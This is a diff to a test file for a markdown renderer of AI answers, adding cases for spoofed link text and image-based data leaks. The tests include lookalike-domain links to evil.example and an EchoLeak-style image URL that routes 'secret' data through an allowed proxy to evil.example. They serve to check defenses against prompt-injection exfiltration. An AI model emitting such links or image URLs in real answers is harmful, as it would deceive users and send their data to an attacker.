@@ -90,6 +90,20 @@ describe('a link in an answer', () => {
     ['[books](https://bücher.example/)', 'books (xn--bcher-kva.example)'],
     ['[a\u202Eb](https://a.example/)', 'a[U+202E]b'],
     ['https://a.example/x', 'https://a.example/x'],
+    // Dots of other scripts, letters that aren't seen, and signs that end a name.
+    ['[bank․example](https://evil.example/)', 'bank․example (evil.example)'],
+    ['[bank。example](https://evil.example/)', 'bank。example (evil.example)'],
+    ['[bank．example](https://evil.example/)', 'bank．example (evil.example)'],
+    [
+      '[ba\u200bnk.exa\u00admple](https://evil.example/)',
+      'ba\u200bnk.exa\u00admple (evil.example)',
+    ],
+    ['[bank.example!](https://evil.example/)', 'bank.example! (evil.example)'],
+    ['[to bank.example|login](https://evil.example/)', 'to bank.example|login (evil.example)'],
+    [
+      '[evil.example, bank.example](https://evil.example/)',
+      'evil.example, bank.example (evil.example)',
+    ],
   ])('%s reads %s', async (markdown, text) => {
     expect((await createRig()).draw(markdown).text).toBe(text);
   });
@@ -138,6 +152,18 @@ describe('a picture in an answer', () => {
     ]) {
       expect(rig.draw(`![x](${near}a.png)`).root.querySelector('img'), near).toBeNull();
     }
+  });
+
+  it('of the owner’s origins waits all the same where its address carries much (EchoLeak: an allowed proxy)', async () => {
+    const rig = await createRig({ imageOrigins: () => ['https://img.example'] });
+    const stolen = `https://img.example/proxy?url=${encodeURIComponent(`https://evil.example/?d=${'secret'.repeat(9)}`)}`;
+    for (const markdown of [`![x](${stolen})`, `![x][r]\n\n[r]: ${stolen}`]) {
+      const { root } = rig.draw(markdown);
+      expect(root.querySelector('img')).toBeNull();
+      expect(root.querySelector('button')?.textContent).toBe('Show image from img.example: x');
+    }
+    const carried = `https://img.example/${'secret'.repeat(40)}.png`;
+    expect(rig.draw(`![x](${carried})`).root.querySelector('img')).toBeNull();
   });
 
   it('does not load by way of a reference either', async () => {
